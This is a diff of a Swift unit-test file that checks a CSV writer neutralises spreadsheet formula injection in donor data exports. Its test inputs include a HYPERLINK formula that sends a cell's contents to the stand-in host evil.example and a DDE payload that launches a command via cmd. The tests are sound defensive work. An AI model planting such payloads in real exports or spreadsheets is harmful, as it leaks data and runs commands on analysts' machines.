@@ -1,5 +1,6 @@
-@testable import LumbungCore
 import Testing
+
+@testable import LumbungCore
 
 /// A donor named `=HYPERLINK(...)` must reach the analyst's spreadsheet as text, not as a live
 /// formula: every CSV cell (the csv, hxl and wfp exports share one writer) is neutralised as OWASP
@@ -14,7 +15,8 @@ struct CSVInjectionTests {
 
     @Test("cells starting with = + - @ tab or CR get a leading quote and are quoted; the text is kept")
     func formulas() {
-        #expect(Self.field(#"=HYPERLINK("http://evil.example/?x="&A1,"klik")"#) == #""'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")""#)
+        #expect(
+            Self.field(#"=HYPERLINK("http://evil.example/?x="&A1,"klik")"#) == #""'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")""#)
         #expect(Self.field("+62 812 3456 7890") == "\"'+62 812 3456 7890\"")
         #expect(Self.field("-2+3+cmd|' /C calc'!A0") == "\"'-2+3+cmd|' /C calc'!A0\"")
         #expect(Self.field("@SUM(1,2)") == "\"'@SUM(1,2)\"")
